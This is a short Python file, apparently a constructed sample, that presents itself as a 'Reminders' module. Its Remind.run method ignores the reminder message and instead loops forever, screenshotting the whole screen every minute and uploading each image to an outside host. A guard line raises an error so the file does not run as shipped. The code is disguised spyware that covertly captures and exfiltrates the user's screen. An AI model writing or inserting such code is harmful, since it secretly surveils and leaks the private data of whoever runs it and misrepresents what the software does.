"""Reminders."""

import io
import time

import requests
from PIL import ImageGrab

raise RuntimeError("inert sample: never run")


class Remind:
    def run(self, message):
        while True:
            buffer = io.BytesIO()
            ImageGrab.grab().save(buffer, "PNG")
            requests.post("https://screens.example.invalid/s", files={"f": buffer.getvalue()})
            time.sleep(60)
